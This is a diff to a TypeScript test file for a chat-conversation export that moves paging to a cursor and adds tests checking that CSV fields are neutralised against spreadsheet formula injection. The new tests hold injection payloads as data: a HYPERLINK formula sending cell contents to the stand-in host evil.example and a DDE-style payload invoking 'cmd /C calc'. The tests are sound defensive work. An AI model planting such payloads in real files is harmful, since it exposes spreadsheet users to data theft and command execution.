@@ -37,14 +37,16 @@ const conversation = (id: string, messages: Message[]): AdminConversation => ({
   messages,
 });
 
-/** `count` conversations of one message each, served in pages as the admin list does. */
+/** `count` conversations of one message each, served in pages after a cursor as the conversation service does. */
 const source = (count: number): ConversationSource & { pages: number } => {
   const all = Array.from({ length: count }, (_, i) => conversation(`c${i}`, [message(`m${i}`, 'user', `hello ${i}`)]));
   const s = {
     pages: 0,
-    async page(_filter: object, offset: number, limit: number) {
+    async page(_filter: object, after: { id: string } | null, limit: number) {
       s.pages++;
-      return { data: all.slice(offset, offset + limit), total: all.length };
+      const from = after ? all.findIndex((c) => c.id === after.id) + 1 : 0;
+      const data = all.slice(from, from + limit);
+      return { data, next: data.length === limit ? { createdAt: data.at(-1)!.createdAt, id: data.at(-1)!.id } : null };
     },
     async get(id: string) {
       return all.find((c) => c.id === id)!;
@@ -68,6 +70,31 @@ describe('conversation export', () => {
     expect(csvField(null)).toBe('');
   });
 
+  it('neutralises fields a spreadsheet would run as formulas (OWASP): a leading quote, the field quoted', () => {
+    expect(csvField('=HYPERLINK("https://evil.example/?d="&A1,"click")')).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`);
+    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`);
+    expect(csvField('1 = 1')).toBe('1 = 1');
+  });
+
+  it('neutralises a visitor message and an agent name that start a formula in the CSV export', async () => {
+    const agent = message('m2', 'human_agent', 'Hello');
+    const agentMessage = {
+      ...agent,
+      metadata: { ...(agent.metadata as object), humanAgent: { name: '@SUM(1+1)*cmd|" /C calc"!A0', image: null } },
+    } as Message;
+    const s: ConversationSource = {
+      page: async () => ({ data: [conversation('c1', [])], next: null }),
+      get: async () => conversation('c1', [message('m1', 'user', '=HYPERLINK("https://evil.example/?d="&A1,"click")'), agentMessage]),
+    };
+    const rows = (await collect(exportConversations(s, {}, 'csv'))).split('\r\n');
+    expect(rows[1]).toBe(
+      `c1,open,v,2026-01-01T00:00:00.000Z,m1,2026-01-01T00:00:00.000Z,user,"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",,`,
+    );
+    expect(rows[2]).toBe(
+      `c1,open,v,2026-01-01T00:00:00.000Z,m2,2026-01-01T00:00:00.000Z,human_agent,Hello,,"'@SUM(1+1)*cmd|"" /C calc""!A0"`,
+    );
+  });
+
   it('pages through every conversation: one NDJSON line each', async () => {
     const s = source(205);
     const lines = (await collect(exportConversations(s, {}, 'ndjson'))).trim().split('\n');
@@ -78,7 +105,7 @@ describe('conversation export', () => {
 
   it('writes one CSV row per message under the header, with the agent’s name', async () => {
     const s: ConversationSource = {
-      page: async (_f, offset) => ({ data: offset === 0 ? [conversation('c1', [])] : [], total: 1 }),
+      page: async () => ({ data: [conversation('c1', [])], next: null }),
       get: async () => conversation('c1', [message('m1', 'user', 'Hi, "there"'), message('m2', 'human_agent', 'Hello')]),
     };
     const rows = (await collect(exportConversations(s, {}, 'csv'))).split('\r\n');
